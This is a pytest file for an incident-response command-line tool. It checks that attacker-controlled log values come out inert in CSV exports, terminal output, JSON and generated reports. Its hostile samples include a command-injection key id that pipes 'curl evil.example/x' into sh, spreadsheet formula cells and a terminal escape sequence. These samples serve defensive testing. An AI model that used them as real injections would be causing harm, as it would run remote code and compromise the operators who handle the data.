"""Text an attacker wrote into the logs (a kid, a sub, a route, a user agent) reaches exports,
reports and terminals: it must arrive there as inert text, never as a formula, a command or an
escape sequence. The workspace is built by the real ingest and detect (tests/respond/hostile.py)."""

from __future__ import annotations

import csv
import html
import json
import re
import shlex

import pytest

from custodes.cli import main
from custodes.workspace import Workspace

from . import hostile
from .hostile import FORMULA_SUBS, KID, OSC_SUB, TERMINAL_CONTROLS

SHOWN_KID = "x; curl evil.example/x|sh #\ufffd"  # as shown: its escape sequence defused, visibly


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    workspace = Workspace.open(folder / "ws")
    hostile.build(workspace, folder)
    return workspace


@pytest.fixture(scope="module")
def incident_id(ws):
    return hostile.forged_incident(ws)["incident_id"]


def run(capsys, *argv):
    with pytest.raises(SystemExit) as exit_info:
        main(list(argv))
    out, err = capsys.readouterr()
    return exit_info.value.code, out, err


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_account_and_notification_exports_neutralise_formulas(ws, incident_id, capsys, tmp_path):
    accounts, people = tmp_path / "accounts.csv", tmp_path / "notify.csv"
    code, _, err = run(capsys, "scope", "--incident", incident_id, "--accounts-out", str(accounts),
                       "--workspace", str(ws.root))
    assert code == 0, err
    code, _, err = run(capsys, "notify", "--incident", incident_id, "--out", str(people), "--workspace", str(ws.root))
    assert code == 0, err
    for path in (accounts, people):
        rows = list(csv.reader(path.open(newline="")))
        assert rows[1:], path
        assert not [cell for row in rows for cell in row if _formula_like(cell)], path.read_text()
        # the value is kept, behind the quote a spreadsheet shows as text
        assert {row[0] for row in rows[1:]} == {"'" + sub for sub in FORMULA_SUBS} | {OSC_SUB}
    contact = next(csv.DictReader(people.open(newline="")))
    assert (contact["name"], contact["email"], contact["phone"]) == ("'=1+2", "'@evil.example", "'+82-10-0000-0000")


COMMANDS = [
    ["quarantine"], ["detect", "--full"], ["findings"], ["incidents"],
    ["scope", "--kid", KID], ["scope", "--actor", OSC_SUB],
]


@pytest.mark.parametrize("argv", COMMANDS, ids=lambda a: " ".join(a[:2]).encode("unicode_escape").decode())
def test_text_output_carries_no_terminal_controls(ws, capsys, argv):
    code, out, err = run(capsys, *argv, "--workspace", str(ws.root))
    assert code == 0, err
    printed = out + err
    assert not [c for c in TERMINAL_CONTROLS if c in printed], printed.encode("unicode_escape")


def test_what_is_printed_keeps_the_text_around_the_sequences(ws, capsys):
    _, out, _ = run(capsys, "incidents", "--workspace", str(ws.root))
    assert SHOWN_KID in out and "victim" in out
    _, out, _ = run(capsys, "quarantine", "--workspace", str(ws.root))
    assert 'bad_int value="\ufffd"' in out  # a value was there, and it was not plain text


def test_json_output_is_exact_and_escaped(ws, capsys):
    code, out, _ = run(capsys, "incidents", "--format", "json", "--workspace", str(ws.root))
    assert code == 0 and not [c for c in TERMINAL_CONTROLS if c in out]
    kids = {k for i in json.loads(out) for k in i["entities"]["kid"]}
    assert KID in kids  # the value itself, escaped only in its JSON spelling
    _, out, _ = run(capsys, "quarantine", "--format", "json", "--workspace", str(ws.root))
    assert not [c for c in TERMINAL_CONTROLS if c in out] and "\\u009d0;owned\\u009c" in out


def _commands(text: str, prefix: str) -> list[str]:
    return [m.strip() for m in re.findall(r"(?:`+ ?)(custodes [^`\n]+?)(?: ?`+)", text) if m.startswith(prefix)]


def test_report_commands_are_shell_quoted(ws, incident_id, capsys, tmp_path):
    for fmt in ("md", "html"):
        out = tmp_path / f"r.{fmt}"
        code, _, err = run(capsys, "report", "--incident", incident_id, "--doc", "annex", "--format", fmt,
                           "--out", str(out), "--workspace", str(ws.root))
        assert code == 0, err
        text = out.read_text()
        assert not [c for c in TERMINAL_CONTROLS if c in text]
        if fmt == "html":
            text = html.unescape(re.sub(r"</?code>", "`", text))
        # pasted into a shell, each line is one command with the kid as one argument
        revoke = [shlex.split(c) for c in _commands(text, "custodes guard revoke --kid")]
        assert all(words[:4] == ["custodes", "guard", "revoke", "--kid"] and len(words) == 5 for words in revoke)
        assert SHOWN_KID in {words[4] for words in revoke}, text
        assert "--kid x; curl" not in text
